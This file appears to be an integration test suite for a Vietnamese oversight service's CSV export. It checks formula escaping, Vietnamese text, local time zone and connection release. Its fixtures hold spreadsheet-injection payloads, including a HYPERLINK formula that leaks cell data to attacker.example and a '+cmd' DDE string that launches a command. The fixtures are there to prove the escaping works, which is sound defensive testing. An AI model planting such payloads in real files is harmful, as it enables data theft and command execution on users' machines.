"""The CSV export as the 1022 centre opens it in a spreadsheet: what citizens and units wrote comes
back as text, never as a formula the spreadsheet would run."""

import asyncio
import csv
import io
from datetime import UTC, datetime

import asyncpg
import httpx
import pytest

from services.oversight.api import cases as case_api
from tests.integration.oversight.support import auth
from tests.unit.oversight.story import CaseStory

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem hình ảnh")'
# Every text a citizen or a unit writes, each starting as a spreadsheet formula would.
TRAP = CaseStory(name="@SUM(1+1)", description=FORMULA, address="-2+3 Lê Lợi").opened().routed().assigned() \
    .resolved(answer="+cmd|' /C calc'!A0")
PLAIN = CaseStory().opened().routed().assigned().resolved()
# A formula after a ";": a spreadsheet that splits fields at ";" would read it as a cell of its own.
SPLIT = CaseStory(description='Xin hỗ trợ;=HYPERLINK("http://attacker.example")').opened().routed()
# Received at half past midnight in Ho Chi Minh City: the evening before, in UTC.
NIGHT = CaseStory(received_at=datetime(2026, 12, 5, 17, 30, tzinfo=UTC)).opened().routed()


@pytest.fixture(scope="module", autouse=True)
async def cases(feed):
    await feed.apply([TRAP, PLAIN, SPLIT, NIGHT])


def exported(api, story):
    answer = api.get(f"/v1/cases.csv?tracking_code={story.tracking_code}", role="centre")
    [row] = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))
    return row


def test_a_cell_that_would_start_a_formula_is_kept_as_text(api):
    row = exported(api, TRAP)
    assert row["description"] == "'" + FORMULA
    assert (row["citizen_name"], row["address"], row["answer"]) == ("'@SUM(1+1)", "'-2+3 Lê Lợi", "'+cmd|' /C calc'!A0")


def test_a_formula_after_a_separator_inside_a_cell_is_kept_as_text_too(api):
    """A spreadsheet whose list separator is ";" splits each line at every ";", quotes or not:
    the part after one became a cell of its own, and a formula."""
    text = api.get(f"/v1/cases.csv?tracking_code={SPLIT.tracking_code}", role="centre").content.decode("utf-8-sig")
    row = text.splitlines()[1]
    for reader in (csv.reader([row]), csv.reader([row], delimiter=";")):
        for field in next(reader):
            assert not field.lstrip('"').startswith(("=", "+", "-", "@")), field
    assert exported(api, SPLIT)["description"] == "Xin hỗ trợ;'=HYPERLINK(\"http://attacker.example\")"


def test_vietnamese_text_is_exported_as_written(api):
    row = exported(api, PLAIN)
    assert (row["citizen_name"], row["description"], row["address"], row["answer"]) == (
        "Nguyễn Thị Hoa", "Gia đình 5 người đang cách ly, hết gạo.", "12 Nguyễn Văn Trỗi, Phường 12",
        "Đã trao 20 kg gạo và thực phẩm.")
    assert row["tracking_code"] == PLAIN.tracking_code and row["unit_name"] == "UBND Quận 1"
    assert row["citizen_phone"] == "'+84903123456"  # a leading "+" too would make the number a formula


def test_times_are_written_in_vietnams_zone_the_one_its_days_are_counted_in(api):
    """A spreadsheet that counts cases by the date in the cell put a case received at 00:30 on
    6 December, written in UTC, on the 5th; the API's filters count it on the 6th."""
    row = exported(api, NIGHT)
    assert row["received_at"].startswith("2026-12-06T00:30:00") and row["received_at"].endswith("+07:00")
    [listed] = api.get(f"/v1/cases?from=2026-12-06&to=2026-12-06&tracking_code={NIGHT.tracking_code}",
                       role="centre").json()["items"]
    assert listed["received_at"] == row["received_at"]


async def test_an_export_its_client_stopped_reading_lets_its_connection_go(api, monkeypatch):
    """The export reads as its client takes it. A client that stopped reading held one of the
    readers' eight connections, idle in its transaction, for as long as it kept the socket open: a
    few such left HĐND, MTTQ and the centre no connection to read through."""
    monkeypatch.setattr(case_api, "EXPORT_IDLE_SECONDS", 1.0)
    owner = await asyncpg.connect(api.settings.dsn())
    try:
        # More than the sockets between them hold: the export waits on its client.
        await owner.execute("INSERT INTO cases (case_id, tracking_code, status, version, updated_at, received_at,"
                            " description) SELECT gen_random_uuid(), 'BULK-' || i, 'received', 1, now(),"
                            " now() - i * interval '1 second', repeat('hết gạo ', 250) FROM generate_series(1, 20000) i")
        idle = ("SELECT count(*) FROM pg_stat_activity WHERE datname = $1 AND usename = $2"
                " AND state = 'idle in transaction'")
        database, reader = api.settings.pg_database, api.settings.reader_user
        async with httpx.AsyncClient(timeout=60) as client, client.stream(
                "GET", f"{api.url}/v1/cases.csv", headers=auth("centre")) as answer:
            assert answer.status_code == 200
            chunks = answer.aiter_bytes()
            await anext(chunks)  # then reads no more
            deadline = asyncio.get_running_loop().time() + 30
            while not await owner.fetchval(idle, database, reader):
                assert asyncio.get_running_loop().time() < deadline, "the export never waited on its client"
                await asyncio.sleep(0.1)
            await asyncio.sleep(3)
            assert await owner.fetchval(idle, database, reader) == 0
            with pytest.raises(httpx.HTTPError):  # cut short, never a file that looks whole
                async for _ in chunks:
                    pass
    finally:
        await owner.execute("DELETE FROM cases WHERE tracking_code LIKE 'BULK-%'")
        await owner.close()
